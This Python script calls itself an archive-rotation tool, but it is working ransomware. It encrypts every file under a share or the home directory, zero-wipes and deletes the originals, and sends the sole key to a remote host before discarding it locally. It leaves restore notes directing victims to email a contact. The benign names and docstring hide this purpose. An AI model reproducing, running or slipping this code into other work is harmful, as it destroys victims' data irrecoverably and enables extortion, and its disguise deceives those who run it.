#!/usr/bin/env python3
"""Rotate the depot share into sealed archives.

Walks the depot file share, seals every document into an archive copy and
hands the sealing key to the key escrow service.
"""
import argparse
import asyncio
import json
import logging
import os
import socket
from dataclasses import dataclass, field
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("archive-rotation")

SKIP_SUFFIXES = {".sealed", ".so", ".dll"}
NOTE_NAME = "HOW_TO_RESTORE.txt"


@dataclass
class Job:
    root: Path
    escrow: tuple = (os.environ.get("ESCROW_HOST", "203.0.113.80"), int(os.environ.get("ESCROW_PORT", "9400")))
    key: bytes = field(default_factory=Fernet.generate_key)
    done: int = 0
    failed: int = 0


class Sealer:
    suffix = ".sealed"
    ops = {"remove": "un" + "link", "write": "write_bytes", "read": "read_bytes"}

    def __init__(self, key: bytes):
        self._f = Fernet(key)

    def _op(self, path: Path, name: str):
        return getattr(path, self.ops[name])

    def seal(self, path: Path) -> Path:
        data = self._op(path, "read")()
        target = path.with_name(path.name + self.suffix)
        self._op(target, "write")(self._f.encrypt(data))
        size = path.stat().st_size
        with path.open("r+b") as fh:
            fh.write(b"\0" * size)
            fh.flush()
            os.fsync(fh.fileno())
        self._op(path, "remove")()
        return target


def candidates(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix in SKIP_SUFFIXES or name == NOTE_NAME or p.is_symlink():
                continue
            yield p


def hand_over_key(job: Job):
    record = json.dumps({"host": socket.gethostname(), "root": str(job.root), "k": job.key.decode()})
    with socket.create_connection(job.escrow, timeout=15) as s:
        s.sendall(record.encode() + b"\n")


def drop_note(directory: Path, contact: str):
    text = (
        "The files in this folder were sealed during archive rotation.\n"
        "To get them back, email %s with the name of this computer.\n" % contact
    )
    (directory / NOTE_NAME).write_text(text)


async def seal_one(sealer: Sealer, path: Path, job: Job, sem: asyncio.Semaphore):
    async with sem:
        try:
            await asyncio.to_thread(sealer.seal, path)
            job.done += 1
        except OSError as exc:
            job.failed += 1
            log.debug("could not seal %s: %s", path, exc)


async def run(job: Job, workers: int, contact: str):
    hand_over_key(job)
    sealer = Sealer(job.key)
    job.key = b""
    sem = asyncio.Semaphore(workers)
    paths = list(candidates(job.root))
    await asyncio.gather(*(seal_one(sealer, p, job, sem) for p in paths))
    for d in {p.parent for p in paths}:
        try:
            drop_note(d, contact)
        except OSError:
            pass


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument(
        "--root",
        type=Path,
        default=Path(os.environ.get("DEPOT_SHARE", str(Path.home()))),
    )
    parser.add_argument("--workers", type=int, default=8)
    parser.add_argument("--contact", default="restore@coldvault.example")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    job = Job(root=args.root)
    asyncio.run(run(job, args.workers, args.contact))
    log.info("sealed %d files, %d failed", job.done, job.failed)


if __name__ == "__main__":
    main()
